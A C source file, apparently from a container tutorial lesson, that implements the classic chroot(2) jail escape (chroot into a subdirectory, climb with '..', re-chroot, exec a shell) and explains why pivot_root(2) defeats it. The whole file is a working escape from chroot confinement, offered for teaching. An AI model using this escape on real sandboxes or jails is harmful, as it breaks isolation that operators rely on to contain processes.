/*
 * step6-user-pivot/escape.c - the classic chroot(2) escape, for lesson 6.
 *
 * chroot(2) changes where "/" points for path lookups, and nothing else: the
 * mount table is the same, and a process whose working directory is outside
 * its root can walk up with "..". With CAP_SYS_CHROOT (which root in a user
 * namespace has), a process can put itself in that position:
 *
 *   1. mkdir a directory below the current root, and chroot(2) into it
 *      without chdir: the working directory is now above the root;
 *   2. chdir("..") many times: ".." stops only at the root, which we are
 *      no longer under, so we climb to the real /;
 *   3. chroot(".") makes the real / our root again.
 *
 * Inside "ns -c DIR" this reaches the host. Inside "ns -r DIR" it does not:
 * pivot_root(2) moved the namespace's root mount, and the host's files were
 * detached, so the climb stops at the jail's own /.
 *
 * usage: escape [COMMAND [ARG]...]   climbs, then runs COMMAND (default
 *                                    /bin/sh) in whatever root it reached
 * Build: cc -static -o escape escape.c  (static, to run in any jail)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void fail(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	exit(125);
}

int main(int argc, char *argv[])
{
	char dir[] = "/tmp/escape.XXXXXX";
	char *shell[] = { "/bin/sh", NULL };
	char **command = argc > 1 ? &argv[1] : shell;

	/* 1. A directory below our root; chroot into it, staying where we are. */
	if (chdir("/") == -1)
		fail("chdir /");
	if (mkdtemp(dir) == NULL)
		fail("mkdir /tmp/escape.XXXXXX");
	if (chroot(dir) == -1) {
		int saved_errno = errno;

		rmdir(dir);
		errno = saved_errno;
		fail("chroot");
	}
	/* The directory is above us no more, but our working directory still
	 * reaches it by a relative path: remove it, to leave nothing behind. */
	if (rmdir(dir + 1) == -1)
		fail("rmdir");

	/* 2. Climb. Each ".." goes one level up, until the real /. */
	for (int i = 0; i < 256; i++)
		if (chdir("..") == -1)
			fail("chdir ..");

	/* 3. Make wherever we got to our root. */
	if (chroot(".") == -1)
		fail("chroot .");

	execvp(command[0], command);
	int err = errno;	/* read before fprintf, which may change it */

	fprintf(stderr, "escape: exec %s: %s\n", command[0], strerror(err));
	return err == ENOENT ? 127 : 126;
}
